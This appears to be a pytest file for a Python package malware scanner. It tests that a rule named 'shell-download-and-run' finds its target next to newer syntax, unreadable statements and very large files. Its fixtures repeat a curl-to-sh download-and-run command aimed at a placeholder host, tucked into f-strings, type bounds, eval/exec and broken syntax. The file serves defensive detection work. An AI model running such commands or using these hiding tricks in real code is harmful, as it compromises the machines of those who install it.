# ruff: noqa: E501
"""Syntax of a newer Python than the one that runs the engine, statements that nobody can read, and large files: what
stands beside them is analysed as if they were not there."""

from __future__ import annotations

import ast

import pytest

from scanner.code.analysis import Analysis, analyse
from scanner.code.fstrings import Rewriter, restored
from scanner.code.limits import Limits
from scanner.code.newer import in_older_syntax
from scanner.code.source import SourceFile, parse
from scanner.model.finding import PackageRef
from tests.support.memory import within

PAYLOAD = "import os\nos.system('curl https://drop.invalid/x | sh')\n"
RULE = "shell-download-and-run"


def analysed(text: str) -> Analysis:
    data = text.encode("utf-8", "surrogatepass")
    return analyse([SourceFile("package/__init__.py", data)], kind="wheel", package=PackageRef("example", "1.0"))


def found_at(analysis: Analysis) -> dict[str, int]:
    return {one.rule: one.evidence[0].location.line or 0 for one in analysis.findings}


NEWER = {
    "an f-string that holds its own quotes": "x = f'{'a' + f'{'b'}'}'",
    "a backslash in an f-string": 'x = f"{"\\n".join(y)}"',
    "a comment and lines in an f-string": 'x = f"{\n  y  # a comment\n}"',
    "a format that holds its own quotes": "x = f'{a['b']!r:>{w['c']}}'",
    "a format within a format": "x = f'{a['b']:{c:{d}}}'",
    "a t-string": 'x = t"hello {name}"',
    "a raw t-string": "x = rt'\\d{'a'}'",
    "two hundred f-strings": "\n".join(f"v{n} = f'{{'a' + f'{{'b'}}'}}'" for n in range(200)),
    "a type statement": "type Pair[T: (int, str), *Ts = tuple[int], **P] = dict[T, P]",
    "a generic function": "def f[T](x: T) -> list[T]:\n    return [x]",
    "a generic class": "class C[\n    T: int,  # a comment\n    U = str,\n](Base, metaclass=M):\n    pass",
    "classes without brackets": "try:\n    pass\nexcept ValueError, KeyError:\n    pass",
    "a group of classes without brackets": "try:\n    pass\nexcept* a.B, C:\n    pass",
    "a lazy import": "lazy from json import loads",
}


@pytest.mark.parametrize("way", NEWER)
def test_newer_syntax_is_read_whole_and_keeps_the_lines(way: str) -> None:
    analysis = analysed(f"{NEWER[way]}\n{PAYLOAD}")
    assert found_at(analysis)[RULE] == NEWER[way].count("\n") + 3
    assert not analysis.gaps


RUNS = {
    "in an f-string": "import os\nx = f'{os.system('curl https://drop.invalid/x | sh')}'",
    "in an f-string of an f-string": "import os\nx = f'{f'{os.system('curl https://drop.invalid/x | sh')}'}'",
    "in a t-string": "import os\nx = t'{os.system('curl https://drop.invalid/x | sh')}'",
    "in the bound of a class": "import os\nclass C[T: os.system('curl https://drop.invalid/x | sh')]: pass",
    "in the bound of a function": "import os\ndef f[T: os.system('curl https://drop.invalid/x | sh')](x): pass",
    "in the default of an alias": "import os\ntype X[T = os.system('curl https://drop.invalid/x | sh')] = int",
    "in an alias": "import os\ntype X = os.system('curl https://drop.invalid/x | sh')",
    "in a generic class": "import os\nclass C[T]:\n    os.system('curl https://drop.invalid/x | sh')",
    "in a class after except": "import os\ntry:\n    pass\nexcept A, os.system('curl https://drop.invalid/x | sh'):\n    pass",
    "in an evaluated f-string": "eval('''f\"{__import__(\"os\").system(\"curl https://drop.invalid/x | sh\")}\"''')",
    "in an executed f-string": "exec('''f\"{__import__(\"os\").system(\"curl https://drop.invalid/x | sh\")}\"''')",
    "in a statement of no syntax": "import os\nx ?= os.system('curl https://drop.invalid/x | sh')",
    "in a block of no syntax": "import os\nfor ? in y:\n    os.system('curl https://drop.invalid/x | sh')",
    "in the header of such a block": "import os\nfor ? in os.system('curl https://drop.invalid/x | sh'):\n    pass",
    "in a function with such a header": "import os\ndef f(?):\n    os.system('curl https://drop.invalid/x | sh')\nf(1)",
    "in a class with such a header": "import os\nclass C(?):\n    os.system('curl https://drop.invalid/x | sh')",
}


@pytest.mark.parametrize("way", RUNS)
def test_what_such_a_statement_runs_is_found(way: str) -> None:
    assert RULE in found_at(analysed(RUNS[way] + "\n"))


UNREADABLE = {
    "no Python at all": "this is no python at all ((",
    "an operator that nobody knows": "x: int = a ?? b(1).c[2]",
    "an unknown header": "for some weird(os.getcwd()) thing:\n    y = 1\nelse:\n    z = 3",
    "a bracket that stays open": "x = (1,",
    "a quote that stays open": "x = 'abc",
    "an unknown decorator": "@a ?? b\ndef g():\n    pass",
    "a case of no syntax": "match x:\n    case 1 ?:\n        y = 1\n    case 2:\n        z = 1",
    "three thousand of them": "q ?= 1\n" * 3000,
    "one in a function": "def f():\n    x ?= 1\n    return 2",
}


@pytest.mark.parametrize("way", UNREADABLE)
def test_a_statement_that_nobody_can_read_is_a_gap_and_the_rest_is_analysed(way: str) -> None:
    analysis = analysed(f"{UNREADABLE[way]}\n{PAYLOAD}")
    assert found_at(analysis)[RULE] == UNREADABLE[way].count("\n") + 3
    assert [one.path for one in analysis.unread] == ["package/__init__.py"]


@pytest.mark.parametrize(
    "text",
    [
        "f'{'a'}' f\"{x!r:>{w}}\" 'b'",
        "x = f'{ {'a': 1}['a'] }{x != 'a'}{(lambda q: 'b')(1)}'",
        "x = f'''{\n'a'}\n{1}'''\ny = rf'\\{x}' + f'\\N{DIGIT ONE}{'a'}{{}}'",
    ],
)
def test_the_expressions_of_f_strings_are_put_back_where_they_were(text: str) -> None:
    rewriter = Rewriter(text)
    tree = ast.parse(rewriter.rewritten())
    assert restored(tree, rewriter.placeholders)
    written = ast.unparse(tree).replace("'", '"')
    assert '{"a"}' in written or '{"a": 1}' in written
    assert "_placeholder" not in written


def test_what_an_older_parser_reads_is_left_as_it_is() -> None:
    text = "type = 1\nif type in [2]:\n    x = {1: type}\ntry:\n    f'{type!r:>{2}}'\nexcept (A, B):\n    pass\n"
    assert in_older_syntax(text) is None


LARGE = {
    "five MiB of comments": ("# " + "x" * 98 + "\n") * 52429,
    "one string of five MiB": "x = '" + "a" * 5_000_000 + "'\n",
    "fifty thousand functions": "def f():\n    return 1\n" * 50_000,
    "more than a MiB of assignments": "x = 1\n" * 180_000,
}


@pytest.mark.parametrize("way", LARGE)
def test_a_large_file_is_read_whole(way: str) -> None:
    analysis = analysed(LARGE[way] + PAYLOAD)
    assert found_at(analysis)[RULE] == LARGE[way].count("\n") + 2
    assert not analysis.gaps


def test_a_statement_too_large_to_parse_costs_its_value() -> None:
    analysis = analysed("y = 2\nx = [" + "1," * 2_500_000 + "]\n" + PAYLOAD)
    assert found_at(analysis)[RULE] == 4
    assert analysis.unread


def test_the_tree_of_a_large_file_is_never_there_as_a_whole() -> None:
    with within(150, 60):  # As one tree it takes 590 MiB.
        parsed = parse("x = 1\n" * 250_000, Limits())
        assert parsed.tree is not None
        assert sum(1 for _ in parsed.tree.body) == 250_000
